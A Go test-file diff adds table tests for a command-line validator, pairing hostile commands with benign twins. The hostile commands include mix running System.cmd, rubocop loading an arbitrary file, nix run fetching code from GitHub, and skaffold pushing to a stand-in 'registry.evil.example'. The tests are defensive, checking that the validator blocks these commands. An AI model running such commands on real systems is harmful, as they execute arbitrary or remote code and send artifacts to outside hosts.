@@ -74,3 +74,20 @@ func TestTablesC7(t *testing.T) {
 			benign: "dotnet pack -c Release --no-build -o out"},
 	})
 }
+
+// More tables the seventh corpus needed, each with what it leaves out:
+// rubocop's --require, mix's tasks that run given code, skaffold's other
+// registry, ansible-playbook's vault password program, bazel run, nix run.
+func TestTablesC7More(t *testing.T) {
+	checkTwins(t, []twin{
+		{name: "rubocop --require", hostile: "rubocop --require ./x.rb", want: "the option --require is not one the device knows", benign: "rubocop --fail-level warning app lib"},
+		{name: "mix run", hostile: "mix run -e 'System.cmd(\"id\", [])'", want: "the subcommand run is not one the device knows",
+			benign: "mix format --check-formatted", markedOK: "mix"},
+		{name: "skaffold to another registry", hostile: "skaffold build --default-repo registry.evil.example", want: "the option --default-repo is not one the device knows",
+			benign: "skaffold diagnose -p staging"},
+		{name: "ansible-playbook's vault password program", hostile: "ansible-playbook --vault-password-file ./pw.sh site.yml",
+			want: "the option --vault-password-file is not one the device knows", benign: "ansible-playbook -i inventory/staging site.yml --check --diff --limit web", markedOK: "irreversible"},
+		{name: "bazel run", hostile: "bazel run //tools:deploy", want: "the subcommand run is not one the device knows", benign: "bazel test //pkg/... --test_output=errors"},
+		{name: "nix run", hostile: "nix run github:someone/tool", want: "the subcommand run is not one the device knows", benign: "nix flake check && nix build .#default"},
+	})
+}
